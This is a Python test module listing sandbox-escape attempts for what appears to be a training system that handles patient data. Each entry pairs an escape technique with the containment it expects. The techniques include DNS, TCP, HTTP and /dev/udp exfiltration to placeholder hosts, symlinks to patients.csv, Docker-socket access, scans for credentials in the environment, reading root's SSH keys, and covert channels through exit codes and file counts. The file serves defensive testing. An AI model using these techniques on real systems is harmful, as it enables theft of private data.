"""Attempts by other ways than a file's content: logs, links, the network, the host."""
# ruff: noqa: E501 - scripts, as people write them

from __future__ import annotations

from edgetrain.core.ports import RunLimits

from .attempt import AFTER, DURING, OPEN, Attempt

HELD = 'try:\n    {way}\n    escaped()\nexcept OSError as error:\n    print("held back", error.errno)'
SITE = "the log stays at the site"


def held(way: str) -> str:
    """A script that tries `way`, and says whether it worked."""
    return HELD.format(way=way.replace("\n", "\n    "))


ATTEMPTS = [
    Attempt("lines in the log, which stays", 'print("held back by logs: site", some)', DURING, SITE),
    Attempt("lines in the log, which would leave", "print(some)", logs="forge"),
    Attempt("one row a line among others", 'for row in rows[:9]: print("epoch 1 loss 0.4", *row)', logs="forge"),
    Attempt("the message of an exception", "raise ValueError(some)", DURING, "the run failed: nothing leaves"),
    Attempt("the log on standard error", "sys.stderr.write(some)", logs="forge"),
    Attempt("a file that is not declared", '(out / "extra.txt").write_text(some)', AFTER, "OutputsRefused"),
    Attempt("a row as the name of such a file", '(out / "-".join(rows[3])).write_text("x")', AFTER, "OutputsRefused"),
    Attempt("a symbolic link to the data", '(model / "m").symlink_to(data / "patients.csv")', AFTER, "OutputsRefused"),
    Attempt("a symbolic link to a folder", '(model / "m").symlink_to(data)', AFTER, "OutputsRefused"),
    Attempt("a hard link to the data", held('os.link(data / "patients.csv", model / "m")'), DURING, "another file system"),
    Attempt(
        "a hard link within the outputs",
        '(model / "a").write_text(some)\nos.link(model / "a", model / "b")',
        AFTER,
        "OutputsRefused",
    ),
    Attempt("a named pipe", 'os.mkfifo(model / "pipe")', AFTER, "OutputsRefused"),
    Attempt(
        "a socket file",
        'import socket\nos.chdir(model)\nsocket.socket(socket.AF_UNIX).bind("s")',
        AFTER,
        "OutputsRefused",
    ),
    Attempt("a device", held("os.mknod(model / 'disk', 0o60600, os.makedev(8, 0))"), DURING, "no rights"),
    Attempt(
        "a file with holes",
        'with open(model / "m", "wb") as f: f.seek(2**26); f.write(some.encode())',
        AFTER,
        "OutputsRefused",
    ),
    Attempt(
        "more than is allowed",
        'with open(model / "m", "wb") as f:\n    for n in range(90): f.write(os.urandom(2**20))',
        AFTER,
        "OutputTooLarge",
    ),
    Attempt(
        "more than the disk should hold",
        'with open(model / "m", "wb") as f:\n    for n in range(90): f.write(os.urandom(2**20))',
        DURING,
        "the limit of the outputs",
        limits=RunLimits(timeout=60, outputs=16 * 2**20),
    ),
    Attempt(
        "thousands of files, one letter each in their number",
        'for n in range(12000): (model / str(n)).touch()',
        DURING,
        "the limit of 10,000 files",
    ),
    Attempt("DNS", held("import socket\nsocket.getaddrinfo(rows[3][2] + '.example.com', 53)"), DURING, "no network"),
    Attempt(
        "DNS by hand",
        held('import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(some[:400].encode(), ("192.0.2.53", 53))'),
        DURING,
        "no network",
    ),
    Attempt("TCP", held('import socket\nsocket.create_connection(("192.0.2.1", 443), 5)'), DURING, "no network"),
    Attempt("TCP over IPv6", held('import socket\nsocket.create_connection(("2001:db8::1", 443), 5)'), DURING, "no network"),
    Attempt(
        "HTTP",
        held('import urllib.request\nurllib.request.urlopen("http://192.0.2.1/", some.encode(), 5)'),
        DURING,
        "no network",
    ),
    Attempt(
        "raw packets",
        held("import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW).send(some.encode())"),
        DURING,
        "no rights",
    ),
    Attempt(
        "the engine's socket",
        held('import socket\nsocket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")'),
        DURING,
        "the host is not seen",
    ),
    Attempt(
        "an abstract socket of the host",
        held('import socket\nsocket.socket(socket.AF_UNIX).connect("\\0/tmp/.X11-unix/X0")'),
        DURING,
        "a network of its own",
    ),
    Attempt(
        "a program that sends",
        held('import subprocess\nsubprocess.run(["/bin/sh", "-c", "echo x > /dev/udp/192.0.2.1/53"], check=True)').replace(
            "OSError as error", "(OSError, subprocess.SubprocessError) as error"
        ).replace("error.errno", "type(error).__name__"),
        DURING,
        "no network",
    ),
    Attempt("writing into the code", held('(pathlib.Path("train.py")).write_text(some)'), DURING, "read-only"),
    Attempt("writing into the data", held('(data / "note").write_text(some)'), DURING, "read-only"),
    Attempt("writing into the system", held('pathlib.Path("/usr/lib/note").write_text(some)'), DURING, "read-only"),
    Attempt("writing into the environment", held('pathlib.Path(sys.prefix, "note").write_text(some)'), DURING, "read-only"),
    Attempt("writing into the kernel's settings", held('pathlib.Path("/proc/sys/kernel/hostname").write_text(some[:60])'), DURING, "read-only"),
    Attempt(
        "a file in /tmp for the next run",
        'pathlib.Path("/tmp/note").write_text(some)\nprint("held back: thrown away")',
        DURING,
        "thrown away with the run",
    ),
    Attempt(
        "shared memory for another process",
        'pathlib.Path("/dev/shm/note").write_text(some)\nprint("held back: thrown away")',
        DURING,
        "thrown away with the run",
    ),
    Attempt(
        "a process that stays behind",
        'import subprocess\nsubprocess.Popen(["sleep", "3000"], start_new_session=True)\nprint("held back: ended with the run")',
        DURING,
        "ended with the run",
    ),
    Attempt(
        "credentials in the environment",
        'found = [n for n in os.environ if any(w in n for w in ("TOKEN", "SECRET", "KEY", "PASSWORD", "PROXY", "AWS", "AZURE", "GITHUB"))]\n'
        'escaped() if found else print("held back: there are none")',
        DURING,
        "there are none",
    ),
    Attempt(
        "the environment of other processes",
        'seen = [p for p in os.listdir("/proc") if p.isdigit()]\nescaped() if len(seen) > 6 else print("held back:", len(seen))',
        DURING,
        "processes of its own only",
    ),
    Attempt("keys of the host", held('os.listdir(os.path.expanduser("~root/.ssh"))'), DURING, "the host is not seen"),
    Attempt("a mount", 'import subprocess\ndone = subprocess.run(["mount", "-t", "tmpfs", "x", "/tmp"], capture_output=True)\nescaped() if done.returncode == 0 else print("held back")', DURING, "no rights"),
    Attempt(
        "tags of MLflow",
        """
        import sqlite3
        base = sqlite3.connect(out / "mlflow.db")
        base.execute("CREATE TABLE tags (key TEXT, value TEXT, run_uuid TEXT)")
        base.execute("INSERT INTO tags VALUES ('note', ?, 'r')", (some,))
        base.commit()
        base.close()
        print("held back: only metrics are read")
        """,
        DURING,
        "tags, parameters and artifacts of MLflow's file stay",
    ),
    Attempt(
        "names of metrics that are not declared",
        'print("held back: only declared metrics leave")\n'
        '(out / "metrics.json").write_text(json.dumps({"auroc": 0.9, " ".join(rows[3][1:3]): 1}))',
        DURING,
        "only declared metrics leave",
    ),
    Attempt(
        "times of files",
        'for row in rows[:5]: os.utime(model, (int(row[0]), int(row[0])))\nprint("held back: times are not taken along")',
        DURING,
        "only names, sizes and contents leave",
    ),
    Attempt("the exit code", "sys.exit(int(rows[3][0]) % 200 + 1)", DURING, "the run failed; its code leaves: 8 bits a run"),
    Attempt("the number of files", "for n in range(int(rows[3][0]) % 97): (model / f'{n}').write_text('x')", OPEN, "some bits a run, as sizes and run time"),
]  # fmt: skip
